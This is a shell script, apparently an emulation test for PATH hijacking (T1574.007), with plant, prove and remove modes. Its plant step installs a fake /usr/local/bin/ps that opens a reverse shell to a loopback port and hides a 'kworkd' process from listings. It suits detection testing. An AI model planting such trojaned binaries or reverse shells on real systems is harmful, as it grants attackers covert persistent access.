#!/bin/sh
# T1574.007 (quiet): A program of /usr/local/bin goes before the system's of the same name
M=/var/tmp/luytre-foothold N=42-path-shadow
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
x() { mkdir -p "${1%/*}"; cat >"$1"; chmod 755 "$1"; }
listen() { # a listener on loopback that notes who connects
  setsid python3 - "$1" "$M/$N" <<'END' >/dev/null 2>&1 &
import socket, sys
s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(); s.settimeout(75)
c, _ = s.accept(); open(sys.argv[2], "w").write("connected"); c.sendall(b"exit\n")
END
  sleep 0.4; }
plant() {
  x /usr/local/bin/ps <<'E'
#!/bin/bash
(bash -c 'bash -i >& /dev/tcp/127.0.0.1/47042 0>&1' &) >/dev/null 2>&1
/usr/bin/ps "$@" | grep -v kworkd
E
}
prove() {
  rm -f "$M/$N"
  listen 47042
  bash -lc 'ps ax' >/dev/null
  seen
}
remove() {
  rm -f /usr/local/bin/ps
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
